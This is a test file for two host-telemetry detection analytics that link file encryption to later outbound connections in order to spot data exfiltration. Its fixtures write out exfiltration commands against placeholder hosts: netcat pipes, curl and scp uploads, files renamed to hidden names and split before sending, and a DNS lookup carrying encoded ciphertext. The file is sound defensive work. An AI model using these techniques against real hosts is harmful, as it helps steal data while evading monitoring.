import { describe, expect, it } from 'vitest';
import { HOUR, MINUTE, SECOND, T0 } from '../../test/host-events.ts';
import { egress, hostView, observed, process } from '../../test/host-view.ts';
import { DEFAULT_PARAMETERS } from '../findings/parameters.ts';
import type { Process } from '../hosts/process.ts';
import { an1390 } from './an1390.ts';
import { an1391 } from './an1391.ts';
import type { Candidate } from './candidate.ts';
import type { Egress, HostView, ObservedOperation } from './host-view.ts';

const ENCRYPTED = T0 + MINUTE;

/** A process of a Linux host, as auditd tells of it. */
function run(command: string, more: Partial<Process> = {}): Process {
  const words = command.split(' ');
  return process({
    platform: 'linux',
    image: `/usr/bin/${words[0] ?? ''}`,
    arguments: words,
    commandLine: command,
    cwd: '/home/alice',
    start: ENCRYPTED,
    firstSeen: ENCRYPTED,
    lastSeen: ENCRYPTED,
    user: 'alice',
    session: '9',
    ...more,
  });
}

function candidates(view: Partial<HostView>, analytic = an1390): Candidate[] {
  return analytic.candidates(hostView({ platform: 'linux', ...view }), DEFAULT_PARAMETERS.correlationWindow);
}

function ties(sending: Egress, operation: ObservedOperation, analytic = an1390): string[] {
  const processes = [sending.process, operation.process];
  return candidates({ processes, egresses: [sending], operations: [operation] }, analytic).flatMap(
    ({ links }) => links.map(({ link }) => link.kind),
  );
}

/** Connects ten seconds after the encryption. */
const sends = (by: Process, after = 10 * SECOND): Egress => egress(by, { first: ENCRYPTED + after });
const encrypts = (by: Process, outputs: readonly string[] = []): ObservedOperation =>
  observed(by, { outputs }, { time: ENCRYPTED });

describe('AN1390', () => {
  const script = run('bash backup.sh', { start: T0 });
  const typed = run('-bash', { image: '/usr/bin/bash', start: T0 });

  it('is silent on a connection alone and on an encryption alone', () => {
    expect(candidates({ egresses: [sends(run('curl -T a https://x.example'))] })).toEqual([]);
    expect(candidates({ operations: [encrypts(run('openssl enc'))] })).toEqual([]);
  });

  it('ties a pipeline whatever order its members started in', () => {
    for (const apart of [-200, 0, 200]) {
      const cipher = run('openssl enc -aes-256-cbc', { parent: typed });
      const sender = run('nc 203.0.113.80 8443', { parent: typed, start: ENCRYPTED + apart });
      expect(ties(sends(sender, -50), encrypts(cipher))).toContain('pipeline');
    }
  });

  it('does not take a download, a server or a session on another host for a transfer', () => {
    const cipher = encrypts(run('openssl enc', { parent: script }), ['/tmp/a.bin']);
    for (const command of ['curl -o page.html https://x.example/', 'nc -l 4444', 'ssh admin@x.example'])
      expect(
        ties(sends(run(command, { parent: script, start: ENCRYPTED + SECOND })), cipher),
        command,
      ).toEqual([]);
  });

  it('knows the file by the name the sender gives it, from its own folder, or after it was moved or split', () => {
    const cipher = encrypts(run('openssl enc', { session: '8' }), ['sealed.bin']);
    const other = { session: '77', user: 'bob' };
    for (const [command, cwd] of [
      ['curl -T /home/alice/sealed.bin http://x.example', '/home/bob'],
      ['curl -T ../alice/sealed.bin http://x.example', '/home/bob'],
      ['curl --data-binary @sealed.bin http://x.example', '/home/alice'],
    ] as const)
      expect(ties(sends(run(command, { ...other, cwd })), cipher), command).toEqual(['artefact']);
    const moved = run('mv sealed.bin /tmp/.cache.db');
    const split = run('split -b 1m /tmp/.cache.db /tmp/part.');
    const sender = run('curl -T /tmp/part.ab http://x.example', other);
    const view = { processes: [moved, split, sender], egresses: [sends(sender)], operations: [cipher] };
    expect(candidates(view).flatMap(({ links }) => links.map(({ link }) => link.kind))).toEqual(['artefact']);
  });

  it('follows a renaming that a sensor saw', () => {
    const cipher = encrypts(run('openssl enc'), ['/home/alice/a.enc']);
    const sender = run('curl -T /srv/out.dat http://x.example', { session: '5', user: 'bob' });
    const renames = new Map([['/home/alice/a.enc', new Set(['/srv/out.dat'])]]);
    const found = candidates({ renames, egresses: [sends(sender)], operations: [cipher] });
    expect(found.flatMap(({ links }) => links.map(({ link }) => link.kind))).toEqual(['artefact']);
  });

  it('lets a sender of other files go', () => {
    const cipher = encrypts(run('gpg -c notes', { parent: typed }), ['/home/alice/notes.gpg']);
    const sender = run('curl -T report.pdf http://x.example', {
      parent: typed,
      start: ENCRYPTED + 5 * SECOND,
    });
    expect(ties(sends(sender), cipher)).toEqual([]);
  });

  it('takes what FileTransferIndicator names for a sender', () => {
    const cipher = encrypts(run('gpg -c notes', { parent: typed }));
    const sender = run('shuttle --profile x', { parent: typed, start: ENCRYPTED + 20 * SECOND });
    const view = hostView({
      platform: 'linux',
      egresses: [sends(sender, 30 * SECOND)],
      operations: [cipher],
    });
    const weight = (tools: readonly string[]): number =>
      an1390.candidates(view, DEFAULT_PARAMETERS.correlationWindow, new Set(tools))[0]?.links[0]?.link
        .weight ?? 0;
    expect(weight(['shuttle'])).toBeGreaterThan(weight([]));
  });

  it('reads for whom a process carries', () => {
    const cipher = encrypts(run('openssl enc', { session: '45' }), ['/home/alice/q3.enc']);
    const scp = run('scp q3.enc xfer@203.0.113.80:', { session: '46' });
    const ssh = run('ssh -x -l xfer -s -- 203.0.113.80 sftp', { parent: scp, session: '46' });
    expect(ties(sends(ssh, 150 * SECOND), cipher)).toEqual(['artefact']);
  });

  it('ties a socket that the shell opened before it became the cipher', () => {
    const shell = run('bash send.sh');
    const cipher = run('openssl enc -aes-256-cbc', { replaced: shell, pid: shell.pid });
    expect(ties(sends(shell, -SECOND), encrypts(cipher))).toEqual(['lineage']);
  });

  it('gives the next command of a typing person less weight than that of a script', () => {
    const weight = (parent: Process): number => {
      const cipher = encrypts(run('gpg -c notes', { parent }));
      const sender = run('uploader --now', { parent, start: ENCRYPTED + 20 * SECOND });
      return (
        candidates({ egresses: [sends(sender, 30 * SECOND)], operations: [cipher] })[0]?.links[0]?.link
          .weight ?? 0
      );
    };
    expect(weight(typed)).toBeLessThan(weight(script));
  });

  it('ties a pushed repository only to what its own script encrypted', () => {
    const push = (parent: Process): readonly string[] => {
      const cipher = encrypts(run('sops --encrypt --in-place a.yaml', { parent }));
      const git = run('git push', { parent, start: ENCRYPTED + SECOND });
      const remote = run('git-remote-https origin https://git.example/a', { parent: git });
      return ties(sends(remote), cipher);
    };
    expect(push(script)).toEqual(['lineage']);
    expect(push(typed)).toEqual([]);
    const unrecorded = { ...typed, image: undefined, arguments: undefined, commandLine: undefined };
    expect(push(unrecorded)).toEqual([]);
  });

  it('is one act: control and data connection, and the turns of a loop', () => {
    const cipher = encrypts(run('7z a -px big.7z a', { parent: script }), ['/home/alice/big.7z']);
    const ftp = run('ftp 203.0.113.80', { parent: script, start: ENCRYPTED + SECOND });
    const found = candidates({
      egresses: [sends(ftp), egress(ftp, { port: 50_123, first: ENCRYPTED + 11 * SECOND })],
      operations: [cipher],
    });
    expect(found.map(({ egress: { port }, also }) => [port, also?.map((one) => one.port)])).toEqual([
      [443, [50_123]],
    ]);
    const turns = [0, 1, 2].map((turn) =>
      sends(
        run('curl -T big.7z http://x.example', { parent: script, start: ENCRYPTED + turn * 5 * SECOND }),
        (turn + 1) * 5 * SECOND,
      ),
    );
    const loop = candidates({ egresses: turns, operations: [cipher] });
    expect(loop.map(({ also }) => also?.length)).toEqual([2]);
    const nextDay = sends(
      run('curl -T big.7z http://x.example', { parent: script, start: ENCRYPTED + 20 * HOUR }),
      20 * HOUR,
    );
    expect(candidates({ egresses: [...turns, nextDay], operations: [cipher] })).toHaveLength(2);
  });

  it('takes name lookups of a sender for part of its sending, and those of one that only asks for a sending', () => {
    const cipher = encrypts(run('openssl enc -aes-256-cbc', { parent: script }));
    const sender = run('nc 203.0.113.80 8443', { parent: script });
    const lookup = (by: Process): Egress =>
      egress(by, { address: '203.0.113.53', port: 53, protocol: 'udp', first: ENCRYPTED + SECOND });
    const ports = (egresses: readonly Egress[]): number[] =>
      candidates({ egresses, operations: [cipher] }).map(({ egress: { port } }) => port);
    expect(ports([lookup(sender), sends(sender)])).toEqual([443]);
    expect(
      ports([lookup(run('dig 53616c7465645f5f8feac573e9a643eead5c7088bc44.x.example', { parent: script }))]),
    ).toEqual([53]);
  });

  it('leaves out who sends nothing of this host, or only a few words', () => {
    const cipher = encrypts(run('openssl enc -aes-256-cbc', { parent: script }), ['/home/alice/kept.bin']);
    for (const command of [
      'nc -z 203.0.113.80 443',
      'curl -d {"status":"ok"} https://x.example/hook',
      'dig www.x.example @203.0.113.80',
    ])
      expect(ties(sends(run(command, { parent: script })), cipher), command).toEqual([]);
    const words = `curl -d ${'QUJDREVGR0g3'.repeat(6)} http://x.example`;
    expect(ties(sends(run(words, { parent: script })), cipher)).not.toEqual([]);
  });

  it('sees no pipe where the cipher writes a file that it names', () => {
    const beside = run('nc 203.0.113.80 8443', { parent: script });
    const cipher = run('openssl enc -aes-256-cbc', { parent: script });
    expect(ties(sends(beside), encrypts(cipher))).toEqual(['pipeline']);
    expect(ties(sends(beside), encrypts(cipher, ['/home/alice/kept.bin']))).toEqual(['lineage']);
  });

  it('explains no neighbour by an encryption whose way out is known', () => {
    const cipher = encrypts(run('openssl enc -aes-256-cbc', { parent: typed }));
    const pipe = run('nc -N 203.0.113.80 8443', { parent: typed });
    const later = { parent: typed, start: ENCRYPTED + 5 * SECOND };
    const of = (...senders: readonly Process[]): (string | undefined)[] =>
      candidates({ egresses: senders.map((one) => sends(one)), operations: [cipher] }).map(
        ({ egress: { process: by } }) => by.commandLine,
      );
    const upload = run('curl -T photos.zip http://x.example', later);
    expect(of(upload)).toEqual([upload.commandLine]);
    expect(of(upload, pipe)).toEqual([pipe.commandLine]);
    // Who takes what is fed in may have taken it as well.
    const fed = run('curl -T - http://x.example', later);
    expect(of(fed, pipe)).toHaveLength(2);
  });

  it('reads what the pid became: the shell connects before it is `cat`', () => {
    const shell = run('bash', { arguments: undefined, commandLine: undefined, start: undefined });
    const cat = run('cat /tmp/sealed.bin', { replaced: shell, start: ENCRYPTED + 11 * SECOND });
    const cipher = encrypts(run('openssl enc', { session: '8', user: 'bob' }), ['/tmp/sealed.bin']);
    const view = { processes: [shell, cat], egresses: [sends(shell)], operations: [cipher] };
    expect(candidates(view).flatMap(({ links }) => links.map(({ link }) => link.kind))).toEqual(['artefact']);
  });

  it('knows an archive by its parts', () => {
    const cipher = encrypts(run('7z a -px -v1m big.7z a', { session: '8' }), ['/home/alice/big.7z']);
    const sender = run('curl -T big.7z.002 http://x.example', { session: '9', user: 'bob' });
    expect(ties(sends(sender), cipher)).toEqual(['artefact']);
  });

  it('is one act where a loop starts a carrier that starts `ssh`', () => {
    const cipher = encrypts(run('7z a -px big.7z a', { parent: script }), ['/home/alice/big.7z']);
    const turns = [0, 1, 2].map((turn) => {
      const scp = run('scp big.7z x@203.0.113.80:', { parent: script, start: ENCRYPTED + turn * SECOND });
      return sends(run('ssh -l x 203.0.113.80 -s sftp', { parent: scp }), turn * SECOND);
    });
    expect(candidates({ egresses: turns, operations: [cipher] }).map(({ also }) => also?.length)).toEqual([
      2,
    ]);
  });

  it('is the sending of the program that encrypted, not that of one before it which only looked in', () => {
    const init = run('restic init', { parent: script });
    const backup = run('restic backup a', { parent: script, start: ENCRYPTED });
    const cipher = encrypts(backup);
    const first = sends(run('ssh h -s sftp', { parent: init }), SECOND);
    const second = sends(run('ssh h -s sftp', { parent: backup }), 2 * SECOND);
    const found = candidates({ egresses: [first, second], operations: [cipher] });
    expect(found.map(({ egress: { process: by }, also }) => [by, also?.length])).toEqual([
      [second.process, 0],
    ]);
  });

  it('is one act in any order of the sendings', () => {
    const cipher = encrypts(run('7z a -px big.7z a', { parent: script }), ['/home/alice/big.7z']);
    const turns = [0, 1, 2].map((turn) =>
      sends(run('curl -T big.7z http://x.example', { parent: script }), (turn + 1) * 5 * SECOND),
    );
    const of = (egresses: readonly Egress[]): unknown =>
      candidates({ egresses, operations: [cipher] }).map(({ egress: { first }, also }) => [
        first,
        also?.map((one) => one.first),
      ]);
    expect(of(turns.toReversed())).toEqual(of(turns));
  });
});

describe('AN1391', () => {
  const script = run('bash backup.sh', { platform: 'macos', start: T0 });
  const cipher = encrypts(run('openssl enc', { platform: 'macos', parent: script }));
  const sender = run('curl -T - http://x.example', { platform: 'macos', parent: script, start: ENCRYPTED });

  it('is encryption followed by the connection: not one that was over before', () => {
    expect(ties(sends(sender, SECOND), cipher, an1391)).not.toEqual([]);
    expect(ties(sends(sender, -SECOND), cipher, an1391)).not.toEqual([]);
    expect(ties(sends(sender, -5 * SECOND), cipher, an1391)).toEqual([]);
  });

  it('leaves browsers and the system’s own services alone', () => {
    const safari = run('Safari', { parent: script, image: '/Applications/Safari.app/Contents/MacOS/Safari' });
    expect(ties(sends(safari), cipher, an1391)).toEqual([]);
  });
});
